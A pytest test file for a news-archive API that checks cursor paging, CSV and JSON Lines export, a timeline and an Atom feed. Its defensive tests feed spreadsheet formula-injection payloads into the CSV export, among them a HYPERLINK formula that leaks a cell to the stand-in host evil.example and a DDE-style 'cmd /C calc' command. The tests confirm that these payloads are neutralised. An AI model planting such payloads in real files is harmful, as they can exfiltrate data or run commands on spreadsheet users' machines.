"""Harvesting over the API: cursor paging, CSV/JSONL export, timeline and the Atom feed."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from collections.abc import Iterator

import pytest
from conftest import SAMPLE_RECORDS, make_record, sample_home
from starlette.testclient import TestClient

from api.app import create_app
from api.routes.exports import csv_cell
from archive.home import DataHome
from archive.store import RecordStore
from index.store import IndexWriter

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    home = sample_home(tmp_path_factory.mktemp("harvest"))
    with TestClient(create_app(home), raise_server_exceptions=False) as test_client:
        yield test_client


def test_cursor_paging_walks_every_hit_once(client: TestClient) -> None:
    seen: list[str] = []
    url: str | None = "/api/v1/search?sort=newest&size=1"
    while url:
        body = client.get(url).json()
        seen += [hit["id"] for hit in body["hits"]]
        url = body["next"]
        assert len(seen) <= len(SAMPLE_RECORDS)
    assert seen == [SAMPLE_RECORDS[i].id for i in (1, 2, 0)]


def test_tampered_cursor_is_a_400(client: TestClient) -> None:
    first = client.get("/api/v1/search?sort=newest&size=1").json()
    cursor = first["next_cursor"]
    assert cursor
    bad = client.get("/api/v1/search", params={"sort": "newest", "size": 1, "cursor": cursor[:-3] + "AAA"})
    assert bad.status_code == 400
    assert bad.json()["type"] == "/problems/invalid-query"
    assert client.get("/api/v1/search", params={"cursor": "garbage"}).status_code == 400


def test_export_jsonl_and_csv(client: TestClient) -> None:
    jsonl = client.get("/api/v1/export", params={"q": '"hoi nghi"', "format": "jsonl"})
    assert jsonl.status_code == 200
    assert jsonl.headers["content-type"] == "application/x-ndjson"
    lines = [json.loads(line) for line in jsonl.text.splitlines()]
    assert {line["id"] for line in lines} == {SAMPLE_RECORDS[0].id, SAMPLE_RECORDS[1].id}
    assert lines[0]["versions"]
    exported = client.get("/api/v1/export", params={"format": "csv", "sort": "oldest"})
    assert exported.headers["content-disposition"] == 'attachment; filename="deptnews-export.csv"'
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [row["id"] for row in rows] == [SAMPLE_RECORDS[i].id for i in (0, 2, 1)]
    assert rows[0]["author"] == "Hoàng Văn Đồng"
    assert rows[0]["permalink"].endswith(f"/api/v1/records/{SAMPLE_RECORDS[0].id}")


HOSTILE = make_record(
    90,
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    ["+cmd|' /C calc'!A0", "second paragraph"],
    lead="-2+3",
    author="@SUM(1+1)",
    category="\tthẻ",
    department="＝1+1",
    jurisdiction='Tỉnh "A";=1+2',
)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    home = DataHome(tmp_path_factory.mktemp("hostile")).ensure()
    store = RecordStore(home.records_dir)
    store.put(HOSTILE)
    IndexWriter(home.index_dir).rebuild(store)
    with TestClient(create_app(home)) as client:
        exported = client.get("/api/v1/export", params={"format": "csv"})
        jsonl = client.get("/api/v1/export", params={"format": "jsonl"})
    assert exported.status_code == 200
    # Every cell is quoted, so no separator or quote inside a value can start a new cell.
    assert exported.text.startswith('"id","url","title"')
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Bấm vào đây"")"' in exported.text
    (row,) = csv.DictReader(io.StringIO(exported.text))
    assert row["title"] == "'" + HOSTILE.title
    assert row["text"] == "'+cmd|' /C calc'!A0\n\nsecond paragraph"
    assert row["lead"] == "'-2+3"
    assert row["author"] == "'@SUM(1+1)"
    assert row["category"] == "'\tthẻ"
    assert row["department"] == "'＝1+1"
    assert row["jurisdiction"] == 'Tỉnh "A";=1+2'  # starts harmlessly, and stays one quoted cell
    assert row["id"] == HOSTILE.id
    # JSON Lines are data for programs: raw.
    assert json.loads(jsonl.text)["title"] == HOSTILE.title


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-5", "'-5"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("＠x", "'＠x"),
        ("－1", "'－1"),
        ("＋1", "'＋1"),
        ("", ""),
        ("Hội nghị = 1", "Hội nghị = 1"),
        ("'=1", "'=1"),  # already text to a spreadsheet
        ("http://demo.vn/tin-tuc/1", "http://demo.vn/tin-tuc/1"),
    ],
)
def test_csv_cell(value: str, cell: str) -> None:
    assert csv_cell(value) == cell


def test_export_errors_come_before_the_body(client: TestClient) -> None:
    assert client.get("/api/v1/export", params={"format": "xml"}).status_code == 400
    assert client.get("/api/v1/export", params={"q": "- OR"}).status_code == 400
    assert client.get("/api/v1/export", params={"size": "5"}).status_code == 400


def test_timeline(client: TestClient) -> None:
    body = client.get("/api/v1/timeline", params={"interval": "year"}).json()
    assert body == {
        "interval": "year",
        "total": 3,
        "buckets": [
            {"period": "2010", "count": 1},
            {"period": "2015", "count": 1},
            {"period": "2022", "count": 1},
        ],
    }
    months = client.get("/api/v1/timeline", params={"q": '"giao ban"'}).json()
    assert months["buckets"] == [{"period": "2010-07", "count": 1}]
    assert client.get("/api/v1/timeline", params={"interval": "week"}).status_code == 400


def test_atom_feed(client: TestClient) -> None:
    response = client.get("/api/v1/search.atom", params={"q": '<b>&"'})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/atom+xml")
    feed = ET.fromstring(client.get("/api/v1/search.atom").content)
    entries = feed.findall(f"{ATOM}entry")
    assert [e.findtext(f"{ATOM}title") for e in entries] == [SAMPLE_RECORDS[i].title for i in (1, 2, 0)]
    assert entries[0].find(f"{ATOM}link[@rel='alternate']").get("href") == SAMPLE_RECORDS[1].url  # type: ignore[union-attr]
    escaped = ET.fromstring(response.content)
    assert escaped.findtext(f"{ATOM}title") == 'deptnews: <b>&"'
